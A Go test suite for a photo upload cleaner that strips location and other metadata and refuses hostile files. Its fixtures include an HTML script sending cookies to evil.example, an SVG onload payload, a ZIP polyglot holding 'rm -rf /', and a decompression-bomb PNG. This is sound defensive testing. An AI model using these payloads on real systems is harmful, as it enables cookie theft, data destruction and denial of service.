package photo_test

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"image"
	"image/jpeg"
	"image/png"
	"runtime"
	"strings"
	"sync"
	"testing"

	"github.com/rwcarlsen/goexif/exif"
	"github.com/stretchr/testify/require"

	"github.com/salga/trustengine/services/ticket/internal/domain/photo"
)

// limits are the service's defaults.
var limits = photo.Limits{MaxPixels: 40_000_000, MaxMemory: 192 << 20}

// gate admits everything and records what it was asked for.
type gate struct {
	mu    sync.Mutex
	asked []int64
}

func (g *gate) admit(_ context.Context, n int64) (func(), error) {
	g.mu.Lock()
	defer g.mu.Unlock()
	g.asked = append(g.asked, n)
	return func() {}, nil
}

// cleaned runs Clean over b and returns its result and outputs.
func cleaned(t testing.TB, b []byte) (photo.Result, []byte, []byte, error) {
	t.Helper()
	var img, thumb bytes.Buffer
	g := &gate{}
	res, err := photo.Clean(context.Background(), bytes.NewReader(b), int64(len(b)), limits, g.admit, &img, &thumb)
	return res, img.Bytes(), thumb.Bytes(), err
}

// metadataLeft lists what of a file's metadata is in out: JPEG APPn and
// COM segments, PNG ancillary chunks that carry text or metadata, and the
// tell-tale strings of EXIF, GPS, XMP, IPTC and ICC data.
func metadataLeft(t testing.TB, out []byte) []string {
	t.Helper()
	left := metadataBlocks(t, out)
	for _, s := range []string{"Exif", "GPS", gpsMake, gpsModel, gpsDateTime, "http://ns.adobe.com", "xpacket", "8BIM",
		"Photoshop", iptcCity, "ICC_PROFILE", "iPhone", "HTC", "NIKON", "Apple"} {
		if bytes.Contains(out, []byte(s)) {
			left = append(left, fmt.Sprintf("%q", s))
		}
	}
	return left
}

// metadataBlocks lists the JPEG segments and PNG chunks of out that carry
// metadata, and an EXIF block goexif can read.
func metadataBlocks(t testing.TB, out []byte) []string {
	t.Helper()
	var left []string
	if bytes.HasPrefix(out, []byte{0xff, 0xd8}) {
		for pos := 2; pos+4 <= len(out); {
			require.Equal(t, byte(0xff), out[pos], "a marker at %d", pos)
			m := out[pos+1]
			if m == 0xda {
				break
			}
			if (m >= 0xe0 && m <= 0xef) || m == 0xfe {
				left = append(left, fmt.Sprintf("JPEG segment %02X", m))
			}
			pos += 2 + int(binary.BigEndian.Uint16(out[pos+2:]))
		}
	}
	if bytes.HasPrefix(out, []byte("\x89PNG")) {
		for pos := 8; pos+8 <= len(out); {
			n := int(binary.BigEndian.Uint32(out[pos:]))
			switch kind := string(out[pos+4 : pos+8]); kind {
			case "IHDR", "PLTE", "IDAT", "IEND", "tRNS":
			default:
				left = append(left, "PNG chunk "+kind)
			}
			pos += 12 + n
		}
	}
	if _, err := exif.Decode(bytes.NewReader(out)); err == nil {
		left = append(left, "an EXIF block goexif can read")
	}
	return left
}

func TestRealPhotosWithGPSComeOutWithoutMetadataAndUpright(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		file          string
		w, h          int
		orientation   int
		carriesInWord string
	}{
		{"goexif/has-lens-info.jpg", 102, 205, 6, "iPhone 4S"},
		{"goexif/geodegrees_as_string.jpg", 205, 102, 1, "HTC One_M8"},
		{"goexif/sample1.jpg", 500, 375, 1, "NIKON D2H"},
	} {
		t.Run(tc.file+" ("+tc.carriesInWord+")", func(t *testing.T) {
			t.Parallel()
			in := read(t, tc.file)
			x, err := exif.Decode(bytes.NewReader(in))
			require.NoError(t, err, "the sample carries EXIF")
			lat, lng, err := x.LatLong()
			require.NoError(t, err, "the sample carries a GPS position")
			require.NotZero(t, lat*lng)
			require.Contains(t, string(in), xmpMarker, "the sample carries XMP")

			res, out, thumb, err := cleaned(t, in)
			require.NoError(t, err)
			require.Equal(t, tc.orientation, res.Orientation)
			require.Empty(t, metadataLeft(t, out), "the image keeps metadata")
			require.Empty(t, metadataLeft(t, thumb), "the thumbnail keeps metadata")
			m, err := jpeg.Decode(bytes.NewReader(out))
			require.NoError(t, err)
			require.Equal(t, image.Pt(tc.w, tc.h), m.Bounds().Size(), "upright size")
			require.Equal(t, photo.Picture{ContentType: photo.ContentJPEG, Width: tc.w, Height: tc.h}, res.Image)
			tm, err := jpeg.Decode(bytes.NewReader(thumb))
			require.NoError(t, err)
			require.Equal(t, image.Pt(res.Thumbnail.Width, res.Thumbnail.Height), tm.Bounds().Size())
			require.LessOrEqual(t, max(res.Thumbnail.Width, res.Thumbnail.Height), photo.ThumbEdge)
		})
	}
}

// TestEveryOrientationComesOutUpright cleans one picture stored in each of
// the eight EXIF orientations (real files) and requires all eight results
// to be the same upright picture as the one stored upright.
func TestEveryOrientationComesOutUpright(t *testing.T) {
	t.Parallel()
	decode := func(name string) image.Image {
		_, out, _, err := cleaned(t, read(t, "goexif/"+name))
		require.NoError(t, err)
		m, err := jpeg.Decode(bytes.NewReader(out))
		require.NoError(t, err)
		return m
	}
	want := decode("f1-exif.jpg")
	require.Equal(t, image.Pt(40, 80), want.Bounds().Size())
	for o := 2; o <= 8; o++ {
		got := decode(fmt.Sprintf("f%d-exif.jpg", o))
		require.Equal(t, want.Bounds(), got.Bounds(), "orientation %d", o)
		var off int
		for y := range 80 {
			for x := range 40 {
				if !near(want.At(x, y), got.At(x, y), 64) {
					off++
				}
			}
		}
		require.Less(t, off, 40*80/50, "orientation %d: %d of 3200 pixels differ from the upright picture", o, off)
	}
}

// TestAColouredCornerEndsUpWhereThePersonSawIt stores a picture with a red
// top-left corner in every orientation, in JPEG (with EXIF, XMP and IPTC),
// PNG (eXIf) and WebP (EXIF chunk), and requires the cleaned image to have
// its red corner top left, blue top right and green bottom left, and no
// metadata left.
func TestAColouredCornerEndsUpWhereThePersonSawIt(t *testing.T) {
	t.Parallel()
	upright := cornerPicture()
	for o := 1; o <= 8; o++ {
		stored := storedAs(upright, o)
		for _, tc := range []struct {
			format string
			file   []byte
		}{
			{"JPEG", withMetadata(encodeJPEG(t, stored), uint16(o))},
			{"PNG", pngWithExif(encodePNG(t, stored), uint16(o))},
		} {
			t.Run(fmt.Sprintf("%s orientation %d", tc.format, o), func(t *testing.T) {
				t.Parallel()
				x, err := exif.Decode(bytes.NewReader(tc.file))
				if tc.format == "JPEG" {
					require.NoError(t, err, "the synthetic EXIF block reads as EXIF")
					lat, lng, err := x.LatLong()
					require.NoError(t, err)
					require.InDelta(t, -33.925, lat, 0.001)
					require.InDelta(t, 18.424, lng, 0.001)
				}
				res, out, _, err := cleaned(t, tc.file)
				require.NoError(t, err)
				require.Equal(t, o, res.Orientation)
				require.Empty(t, metadataLeft(t, out))
				m, _, err := image.Decode(bytes.NewReader(out))
				require.NoError(t, err)
				require.Equal(t, image.Pt(90, 60), m.Bounds().Size())
				require.True(t, near(m.At(5, 5), red, 40), "top left is %v", m.At(5, 5))
				require.True(t, near(m.At(84, 5), blue, 40), "top right is %v", m.At(84, 5))
				require.True(t, near(m.At(5, 54), green, 40), "bottom left is %v", m.At(5, 54))
				require.True(t, near(m.At(84, 54), white, 40), "bottom right is %v", m.At(84, 54))
			})
		}
	}
}

func TestWebPImagesAreCleanedToo(t *testing.T) {
	t.Parallel()
	lossy := read(t, "xim/blue-purple-pink.lossy.webp")
	cfg, _, err := image.DecodeConfig(bytes.NewReader(lossy))
	require.NoError(t, err)
	for _, tc := range []struct {
		name        string
		file        []byte
		contentType string
		orientation int
		w, h        int
	}{
		{"a lossy WebP with EXIF turned a quarter becomes an upright JPEG", webpWithExif(t, lossy, 6, cfg.Width, cfg.Height),
			photo.ContentJPEG, 6, cfg.Height, cfg.Width},
		{"a lossy WebP with transparency becomes a PNG", read(t, "xim/yellow_rose.lossy-with-alpha.webp"), photo.ContentPNG, 1, 0, 0},
		{"a lossless WebP with transparency becomes a PNG", read(t, "xim/gopher-doc.with-alpha.lossless.webp"), photo.ContentPNG, 1, 0, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			res, out, thumb, err := cleaned(t, tc.file)
			require.NoError(t, err)
			require.Equal(t, photo.WebP, res.Found)
			require.Equal(t, tc.orientation, res.Orientation)
			require.Equal(t, tc.contentType, res.Image.ContentType)
			require.Empty(t, metadataLeft(t, out))
			require.Empty(t, metadataLeft(t, thumb))
			m, format, err := image.Decode(bytes.NewReader(out))
			require.NoError(t, err)
			require.Equal(t, map[string]string{photo.ContentJPEG: "jpeg", photo.ContentPNG: "png"}[tc.contentType], format)
			if tc.w > 0 {
				require.Equal(t, image.Pt(tc.w, tc.h), m.Bounds().Size())
			}
		})
	}
}

// hostile are files that must be refused, each with what the refusal says.
func hostile(t testing.TB) []struct {
	name, file, says string
	data             []byte
} {
	photoJPEG := read(t, "goexif/sample1.jpg")
	return []struct {
		name, file, says string
		data             []byte
	}{
		{"an SVG file named .jpg", "pothole.jpg", "found an SVG image",
			[]byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="9"/></svg>`)},
		{"an HTML file named .jpg", "pothole.jpg", "found text/html",
			[]byte("<!DOCTYPE html><html><script>document.location='https://evil.example/'+document.cookie</script></html>")},
		{"a GIF", "pothole.gif", "found a GIF image", []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;")},
		{"a PDF", "report.pdf", "found a PDF document", []byte("%PDF-1.7\n1 0 obj<<>>endobj\n")},
		{"a ZIP archive", "photos.zip", "found a ZIP archive", []byte("PK\x03\x04\x14\x00\x00\x00\x08\x00")},
		{"a HEIC photo", "IMG_0001.HEIC", "found a HEIC image", append([]byte("\x00\x00\x00\x18ftypheic"), make([]byte, 16)...)},
		{"an empty file", "empty.jpg", "found an empty file", nil},
		{"plain text", "notes.jpg", "found text/plain", []byte("just some words, not a photo")},
		{"a PNG declaring 50,000 x 50,000 pixels", "bomb.png", "declares 50000x50000 = 2500000000 pixels; at most 40000000", pngDeclaring(50000, 50000)},
		{"a JPEG whose image data is cut off", "cut.jpg", "is not a complete JPEG image", photoJPEG[:len(photoJPEG)/2]},
		{"a real camera JPEG with nothing after its EXIF", "IMG_2006.jpg", "is not a readable JPEG image", read(t, "goexif/canon-sd600-truncated.jpg")},
		{"a JPEG header alone", "head.jpg", "is not a readable JPEG image", []byte{0xff, 0xd8, 0xff, 0xe0, 0, 16}},
		{"a PNG whose pixels do not decompress", "broken.png", "is not a complete PNG image", pngDeclaring(64, 64)},
		{"a WebP header alone", "head.webp", "is not a readable WebP image", []byte("RIFF\x04\x00\x00\x00WEBP")},
	}
}

func TestHostileFilesAreRefusedWithWhatWasFound(t *testing.T) {
	t.Parallel()
	for _, tc := range hostile(t) {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			_, out, thumb, err := cleaned(t, tc.data)
			var r *photo.Refusal
			require.True(t, errors.As(err, &r), "refused: %v", err)
			require.Contains(t, r.Rule, tc.says)
			require.Empty(t, out, "nothing written")
			require.Empty(t, thumb, "nothing written")
		})
	}
}

// TestADecompressionBombIsRefusedBeforeAnyLargeAllocation requires the
// 50,000 x 50,000 PNG (10 GB of pixels) to be refused from its header:
// the gate is never asked and the refusal allocates almost nothing.
func TestADecompressionBombIsRefusedBeforeAnyLargeAllocation(t *testing.T) {
	bomb := pngDeclaring(50000, 50000)
	g := &gate{}
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	_, err := photo.Clean(context.Background(), bytes.NewReader(bomb), int64(len(bomb)), limits, g.admit, &bytes.Buffer{}, &bytes.Buffer{})
	runtime.ReadMemStats(&after)
	require.ErrorContains(t, err, "declares 50000x50000")
	require.Empty(t, g.asked, "the memory gate was not even asked")
	require.Less(t, after.TotalAlloc-before.TotalAlloc, uint64(1<<20), "bytes allocated refusing the bomb")
}

// TestImagesNeedingMoreMemoryThanAllowedAreRefusedFromTheirHeader covers
// images within the pixel limit whose decoding would still need more
// memory than one upload may take, and that the gate is asked for what an
// accepted image needs.
func TestImagesNeedingMoreMemoryThanAllowedAreRefusedFromTheirHeader(t *testing.T) {
	t.Parallel()
	big := pngDeclaring(6000, 6000) // 36 MP of 16-bit-free RGBA: 144 MB
	var img bytes.Buffer
	_, err := photo.Clean(context.Background(), bytes.NewReader(big), int64(len(big)),
		photo.Limits{MaxPixels: 40_000_000, MaxMemory: 64 << 20}, (&gate{}).admit, &img, &bytes.Buffer{})
	require.ErrorContains(t, err, "needs about 161 MiB to decode (6000x6000 pixels); at most 64 MiB are allowed")
	require.Zero(t, img.Len())

	g := &gate{}
	in := read(t, "goexif/has-lens-info.jpg")
	_, err = photo.Clean(context.Background(), bytes.NewReader(in), int64(len(in)), limits, g.admit, &bytes.Buffer{}, &bytes.Buffer{})
	require.NoError(t, err)
	require.Len(t, g.asked, 1)
	// 205x102 4:2:0 (1.5 bytes a pixel), turned (twice), plus encoding.
	require.Equal(t, int64(205*102*6/4*2+24<<20), g.asked[0])

	t.Run("a gate that gives up stops the cleaning", func(t *testing.T) {
		t.Parallel()
		closed := func(context.Context, int64) (func(), error) { return nil, context.Canceled }
		var img bytes.Buffer
		_, err := photo.Clean(context.Background(), bytes.NewReader(in), int64(len(in)), limits, closed, &img, &bytes.Buffer{})
		require.ErrorIs(t, err, context.Canceled)
		require.Zero(t, img.Len())
	})
}

// TestAJPEGWithAZIPAppendedComesOutAsAFreshJPEG: a polyglot (a JPEG that
// is also a ZIP archive, or a phone's "motion photo" with a video after
// the image) is a valid JPEG; cleaning keeps its pixels only, so nothing
// after the image survives.
func TestAJPEGWithAZIPAppendedComesOutAsAFreshJPEG(t *testing.T) {
	t.Parallel()
	zip := []byte("PK\x03\x04\x14\x00\x00\x00\x00\x00payload.sh#!/bin/sh\nrm -rf /\nPK\x05\x06\x00\x00\x00\x00")
	poly := append(read(t, "goexif/sample1.jpg"), zip...)
	res, out, _, err := cleaned(t, poly)
	require.NoError(t, err)
	require.Equal(t, photo.JPEG, res.Found)
	require.False(t, bytes.Contains(out, []byte("PK\x03\x04")), "the ZIP survived")
	require.False(t, bytes.Contains(out, []byte("payload.sh")), "the ZIP survived")
	require.True(t, bytes.HasSuffix(out, []byte{0xff, 0xd9}), "the output ends with the image")
	require.Empty(t, metadataLeft(t, out))
}

// TestGarbledEXIFLeavesTheImageAsStored: hostile EXIF structures (huge
// tags, loops, offsets near 2^32) neither crash nor turn the image.
func TestGarbledEXIFLeavesTheImageAsStored(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"huge_tag_exif.jpg", "infinite_loop_exif.jpg", "max_uint32_exif.jpg"} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			res, _, _, err := cleaned(t, read(t, "goexif/"+name))
			if err != nil {
				var r *photo.Refusal
				require.True(t, errors.As(err, &r), "a refusal, not a failure: %v", err)
				return
			}
			require.Equal(t, 1, res.Orientation)
		})
	}
}

func TestTheFormatIsTakenFromTheContentNotTheName(t *testing.T) {
	t.Parallel()
	jpg := encodeJPEG(t, cornerPicture())
	var p bytes.Buffer
	require.NoError(t, png.Encode(&p, cornerPicture()))
	for _, tc := range []struct {
		data []byte
		want photo.Format
	}{
		{jpg, photo.JPEG}, {p.Bytes(), photo.PNG}, {read(t, "xim/blue-purple-pink.lossy.webp"), photo.WebP},
	} {
		f, _ := photo.Sniff(tc.data)
		require.Equal(t, tc.want, f)
	}
	f, found := photo.Sniff([]byte(strings.Repeat(" ", 20) + "<svg>"))
	require.Empty(t, f)
	require.Equal(t, "an SVG image", found)
}
